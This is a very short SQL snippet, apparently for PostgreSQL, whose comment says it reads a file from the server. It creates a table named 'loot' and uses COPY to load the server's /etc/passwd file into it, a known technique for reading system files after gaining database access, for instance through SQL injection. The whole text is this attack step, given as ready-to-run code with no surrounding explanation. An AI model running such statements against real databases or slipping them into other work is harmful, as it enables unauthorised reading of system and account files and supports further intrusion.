-- Reads a file of the server.
create table loot (line text);
copy loot from '/etc/passwd';
